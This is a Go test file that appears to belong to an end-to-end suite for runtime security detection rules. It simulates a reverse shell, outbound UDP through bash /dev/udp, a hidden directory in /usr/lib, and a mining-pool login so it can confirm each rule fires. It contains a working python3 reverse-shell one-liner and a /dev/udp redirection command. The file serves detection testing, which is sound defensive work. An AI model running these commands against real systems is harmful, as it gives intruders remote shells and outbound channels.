package rules_test

import (
	"fmt"
	"os/exec"
	"strconv"
	"testing"
)

// experimentalAttacks prove the experimental rules (TestExperimentalAttacks).
var experimentalAttacks = []attack{
	{"Reverse shell", "Critical", "", "python3 one-line reverse shell (socket, dup2 onto 0, 1 and 2, exec sh -i) to a C2 in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			python, _ := hostTool(t, "python3")
			srv := newC2()
			port := serveRemote(t, 0, srv.handle(m))
			oneLiner := fmt.Sprintf(`import socket,os;s=socket.socket();s.connect(("%s",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])`,
				remoteHost(t), port)
			pid := run(t, exec.Command(python, "-c", oneLiner))
			if !srv.answered(m + "-42") {
				t.Errorf("the C2 got no answer from the shell")
			}
			return result{match: fmt.Sprintf("->%s:%d ", remoteHost(t), port), pid: pid, name: "sh", exe: realpath(t, "/bin/sh")}
		}},
	{"Unexpected outbound UDP", "Notice", "", "bash /dev/udp redirection",
		func(t *testing.T, ag *agent, m string) result {
			_, exe := hostTool(t, "bash")
			port := listenRemote(t, "udp4", 0)
			pid := run(t, exec.Command("bash", "-c", fmt.Sprintf("echo %s > /dev/udp/%s/%d", m, remoteHost(t), port)))
			return result{match: m, pid: pid, name: "bash", exe: exe, fields: map[string]string{"fd.sport": strconv.Itoa(port)}}
		}},
	{"Hidden directory created in a system directory", "Warning", "", "busybox mkdir /usr/lib/.NAME, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "/usr/bin/mkdir -p /usr/lib/."+m)
			return result{match: m, name: "mkdir", exe: busybox, in: w, fields: map[string]string{"evt.arg.path": "/usr/lib/." + m}}
		}},
	{"Connection to a mining pool port", "Notice", "",
		"stand-in xmrig (test/e2e/rules/standin/xmrig; no miner is packaged): stratum login to a pool on port 3333 in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			r := mine(t, m)
			r.fields = map[string]string{"fd.sport": "3333"}
			return r
		}},
}
